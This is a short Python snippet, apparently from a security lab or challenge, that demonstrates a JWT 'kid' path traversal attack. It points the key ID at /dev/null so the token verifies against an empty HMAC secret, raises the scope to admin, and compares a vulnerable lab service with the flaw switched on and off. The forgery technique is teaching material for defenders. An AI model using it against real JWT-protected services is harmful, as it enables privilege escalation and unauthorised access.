# kid climbs out of the key folder to /dev/null: the HMAC secret is the file's bytes, none at all.
claims = {**claims_of(lab.provider.mint(["api:read"])), "scope": "admin"}
forged = hs256_token({"typ": "at+jwt", "kid": "../" * 12 + "dev/null"}, claims, b"")
print("kid_as_path on: ", vulnerable.execute("admin_status", token=forged).status_code, "|", vulnerable.last_reasons()[0])
vulnerable.disable("kid_as_path")
print("kid_as_path off:", vulnerable.execute("admin_status", token=forged).status_code, "|", vulnerable.last_reasons()[0])
challenge.check()
